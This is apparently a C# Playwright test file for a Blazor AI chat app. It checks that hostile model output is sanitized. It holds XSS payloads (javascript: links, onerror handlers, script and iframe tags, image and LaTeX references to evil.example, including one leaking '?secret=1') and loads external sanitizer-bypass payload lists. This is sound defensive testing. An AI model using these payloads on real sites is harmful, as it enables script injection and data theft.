using System.Text.Json;
using BlazorAi.Tests.Support;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace BlazorAi.Tests.Browser;

/// <summary>Whatever a model writes, nothing of it runs and nothing is fetched from elsewhere: the base class sees to dialogs, requests and errors.</summary>
public sealed class HostileOutputTests(Studio studio) : BrowserTest(studio)
{
    private const string Own = """
        [x](javascript:alert(1)) [x](&#106;avascript:alert(1)) ![x](https://evil.example/?secret=1) a{onclick=alert(1)}
        <img src=https://evil.example/x onerror=alert(1)> <script>alert(1)</script> <iframe src=https://evil.example></iframe>
        $\href{javascript:alert(1)}{x}$ $\includegraphics{https://evil.example/x.png}$ [x]: https://evil.example/x
        """;

    [BrowserFact]
    public Task Markdowns_own_holes_are_shut() => ShowAsync(Own);

    [BrowserFactWithCorpora]
    public Task Payloads_made_for_sanitizers_do_nothing()
    {
        using var file = JsonDocument.Parse(File.ReadAllText(Corpora.Path("dompurify/expect.json")));
        return ShowAsync(string.Join("\n\n", file.RootElement.EnumerateArray().Select(e => e.GetProperty("payload").GetString())));
    }

    [BrowserFactWithCorpora]
    public Task Lists_of_attacks_do_nothing() => ShowAsync(string.Join(
        "\n\n", Directory.GetFiles(Corpora.Path("PayloadsAllTheThings/XSS_Injection/Intruders")).Order(StringComparer.Ordinal).SelectMany(File.ReadLines).Distinct().Take(1_500)));

    private async Task ShowAsync(string hostile)
    {
        Studio.Reply(Marker, async call =>
        {
            foreach (var piece in hostile.Chunk(2_000))
            {
                await call.TextAsync(new string(piece));
            }

            await call.TextAsync("\n\nThe end of it.");
            await call.EndAsync();
        });
        var unit = await OpenAsync(await Studio.NewUnitAsync());
        await unit.Assist.AskAsync(Marker);
        await unit.Assist.EndedAsync();
        await Expect(unit.Assist.Text).ToContainTextAsync("The end of it.");
        Assert.Equal(0, await unit.Assist.Text.Locator("script, iframe, img, svg:not(.katex-svg), object, embed, form, style, link, [onerror], [onclick], [onload]").CountAsync());
        await unit.ReloadAsync(); // and once more at once
        await Expect(unit.Assist.History).ToHaveCountAsync(1);
        await unit.Assist.History.First.ClickAsync();
        await Expect(unit.Assist.Text).ToContainTextAsync("The end of it.");
    }

    [AttributeUsage(AttributeTargets.Method)]
    private sealed class BrowserFactWithCorporaAttribute : FactAttribute
    {
        public BrowserFactWithCorporaAttribute() => Skip = Chromium.SkipReason ?? Corpora.SkipReason("dompurify");
    }
}
